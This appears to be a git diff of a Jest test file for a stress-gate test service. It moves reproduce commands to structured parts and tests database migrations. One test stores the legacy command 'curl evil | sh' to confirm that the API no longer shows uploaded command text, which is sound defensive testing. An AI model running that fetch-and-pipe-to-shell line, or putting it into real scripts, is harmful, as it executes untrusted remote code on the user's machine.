@@ -7,6 +7,8 @@
 import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
 import { randomBytes } from 'node:crypto';
 import MarkdownIt from 'markdown-it';
+import { testCaseId } from '../../src/identity/test-case-id.js';
+import { reproduceCommand } from '../../src/reproduce-command.js';
 import { ident, Sql, sql, uuid } from '../../src/sql/bind.js';
 import { database } from '../../src/storage/database.js';
 import { loadMigrations, migrate } from '../../src/storage/migrate.js';
@@ -14,6 +16,8 @@ import { ENGINES, openTestDatabase, type TestDatabase } from '../support/engines
 import { type ProjectHandle, run, seedProject, testApp } from '../support/api.js';
 
 const SUITE = 'com.example.CheckoutTest';
+/** How the gate ran its candidates: the API builds each one's command from these and the identity. */
+const PARTS = { launcher: { kind: 'local' as const }, tool: ['gradle'], buildArgs: ['test'], repetitions: 50 };
 const reps = (fails: number[] = [], n = 10) => Array.from({ length: n }, (_, i) => ({ repetition: i + 1, status: fails.includes(i + 1) ? 'failure' : 'success', durationMs: 30 + i }));
 const timeout = (repetition: number, name: string) => ({
   repetition, kind: 'failure', type: 'java.util.concurrent.TimeoutException', message: 'waited 5 s', stackTrace: `java.util.concurrent.TimeoutException: waited 5 s\n\tat ${SUITE}.${name}(CheckoutTest.java:9)`,
@@ -25,7 +29,7 @@ const timingCase = (name: string, outcome: 'passed' | 'failed') => ({
   timingSensitive: { failures: 2, repetitions: 10 },
   failures: [timeout(3, name), timeout(7, name)],
   failureGroups: [{ signature: `java.util.concurrent.TimeoutException at ${SUITE}.${name}(CheckoutTest.java:9)`, type: 'java.util.concurrent.TimeoutException', location: 'CheckoutTest.java:9', count: 2, repetitions: [3, 7] }],
-  reproduceCommand: `./gradlew :app:test --tests '${SUITE}.${name}'`,
+  reproduce: PARTS,
 });
 /** 12 new invocations of one method; [5] failed repetitions 2 and 4. */
 const invocationCases = Array.from({ length: 12 }, (_, k) => {
@@ -35,7 +39,7 @@ const invocationCases = Array.from({ length: 12 }, (_, k) => {
     module: ':app', suite: SUITE, name, outcome: 'failed', repetitions: reps([2, 4]),
     failures: [2, 4].map((r) => ({ ...timeout(r, 'adds'), type: 'java.lang.AssertionError', message: 'expected 2 but was 3' })),
     failureGroups: [{ signature: `java.lang.AssertionError at ${SUITE}.adds(CheckoutTest.java:9)`, type: 'java.lang.AssertionError', location: 'CheckoutTest.java:9', count: 2, repetitions: [2, 4] }],
-    reproduceCommand: `./gradlew :app:test --tests '${SUITE}.adds'`,
+    reproduce: PARTS,
   };
 });
 const cases = [timingCase('waits', 'passed'), timingCase('blocks', 'failed'), { module: ':app', suite: SUITE, name: 'stable', outcome: 'passed', repetitions: reps() }, ...invocationCases];
@@ -74,7 +78,7 @@ describe.each(ENGINES)('timing-sensitive tests and invocation groups on %s Click
     const byName = Object.fromEntries(page.gate.candidates.map((c: any) => [c.name, c]));
     for (const name of ['waits', 'blocks']) {
       const sent = cases.find((c) => c.name === name) as ReturnType<typeof timingCase>;
-      expect(byName[name]).toMatchObject({ timingSensitive: sent.timingSensitive, failures: sent.failures, failureGroups: sent.failureGroups, reproduceCommand: sent.reproduceCommand, method: null });
+      expect(byName[name]).toMatchObject({ timingSensitive: sent.timingSensitive, failures: sent.failures, failureGroups: sent.failureGroups, reproduceCommand: reproduceCommand(PARTS, sent), method: null });
       expect(byName[name].repetitions.every((r: any) => r.status === 'success')).toBe(true);
     }
     expect(byName['stable']).toMatchObject({ timingSensitive: null, failures: [], method: null });
@@ -92,7 +96,7 @@ describe.each(ENGINES)('timing-sensitive tests and invocation groups on %s Click
     expect(text).toContain('| `com.example.CheckoutTest.adds(int)` | `:app` | 12 invocations, 10 repetitions each, 1 failed: `[5]` 2 of 10; 11 passed | stress gate: new test, deliberately repeated in fresh JVMs |');
     expect(new MarkdownIt().parse(text, {}).filter((x) => x.type === 'tr_open')).toHaveLength(1 + 3);
     expect(text).toContain('#### Why `com.example.CheckoutTest.waits` failed side by side under the stress gate\n\nFailed 2 of 10 side by side, passed 10 alone: timing-sensitive; not blocking (a project setting makes it block).\n\n2 of 10 repetitions failed side by side, 1 distinct: `TimeoutException` at `CheckoutTest.java:9` (2x).\n');
-    expect(text).toContain("Rerun it as the gate did:\n\n```sh\n./gradlew :app:test --tests 'com.example.CheckoutTest.waits'\n```\n");
+    expect(text).toContain("Rerun it as the gate did:\n\n```sh\nnpx --no stress-orchestrator gradle --stress-tests ':app com.example.CheckoutTest.waits' --repetitions 50 -- test\n```\n");
     expect(text).toContain('#### Why `com.example.CheckoutTest.adds(int)[5]` failed under the stress gate\n\n2 of 10 repetitions failed');
   });
 
@@ -148,9 +152,36 @@ describe.each(ENGINES)('timing-sensitive tests and invocation groups on %s Click
       // Up to 0036 only: later migrations are not this test's concern.
       expect(await migrate(db.engine, name, loadMigrations().filter((m) => m.version <= '0036'))).toEqual(['0036_create_gate_timing_sensitive']);
       for (const statement of loadMigrations().find((m) => m.version === '0036')!.statements) await db.engine.command(new Sql(statement.replaceAll('{db}', ident(name).text)));
+      // The later ones, which today's gate upload writes to (0038: the reproduce parts).
+      await migrate(db.engine, name);
       expect((await oldCall('POST', `/api/v1/projects/${before.handle}/runs/r1/gate`, before.token, gateBody([{ ...timingCase('x', 'passed'), name: 'x' }], 'passed'))).status).toBe(201);
       const read = (await oldCall('GET', `/api/v1/projects/${before.handle}/runs/r1`, before.token)).body!;
       expect(read.gate.candidates[0].timingSensitive).toEqual({ failures: 2, repetitions: 10 });
+    } finally {
+      await t.db.engine.command(sql`DROP DATABASE IF EXISTS ${ident(name)}`);
+    }
+  });
+
+  it('migration 0038 applies to a database at 0037 that holds a gate (its command, uploaded as text, is not shown), and runs twice harmlessly', async () => {
+    const name = `pre0038_${randomBytes(6).toString('hex')}`;
+    const db = database(t.db.engine, name);
+    try {
+      await migrate(db.engine, name, loadMigrations().filter((m) => m.version < '0038'));
+      const before = await seedProject(db, `pre0038-${kind}`);
+      const { call: oldCall } = testApp(db);
+      expect((await oldCall('POST', `/api/v1/projects/${before.handle}/runs`, before.token, run('r1', ['x', 'y'], { branch: 'feature/x' }))).status).toBe(201);
+      // What a gate before 0038 stored for x: the command as text.
+      await db.engine.insert(db.t('gate_candidate_evidence'), [{ project_id: before.projectId, run_id: 'r1', shard_index: 0, test_case_id: testCaseId(before.projectId, { module: ':app', suite: SUITE, name: 'x' }), failures_omitted: 0, reproduce_command: 'curl evil | sh', recorded_at: '2026-01-01 00:00:00' }]);
+      expect(await migrate(db.engine, name, loadMigrations().filter((m) => m.version <= '0038'))).toEqual(['0038_create_gate_candidate_reproduce']);
+      for (const statement of loadMigrations().find((m) => m.version === '0038')!.statements) await db.engine.command(new Sql(statement.replaceAll('{db}', ident(name).text)));
+      await migrate(db.engine, name);
+      const old = { ...timingCase('x', 'passed'), name: 'x', reproduce: undefined, reproduceCommand: 'curl evil | sh' };
+      expect((await oldCall('POST', `/api/v1/projects/${before.handle}/runs/r1/gate`, before.token, gateBody([old, { ...timingCase('y', 'passed'), name: 'y' }], 'passed'))).status).toBe(201);
+      const read = (await oldCall('GET', `/api/v1/projects/${before.handle}/runs/r1`, before.token)).body!;
+      expect(read.gate.candidates.map((c: any) => [c.name, c.reproduceCommand])).toEqual([
+        ['x', null],
+        ['y', "npx --no stress-orchestrator gradle --stress-tests ':app com.example.CheckoutTest.y' --repetitions 50 -- test"],
+      ]);
     } finally {
       await t.db.engine.command(sql`DROP DATABASE IF EXISTS ${ident(name)}`);
     }
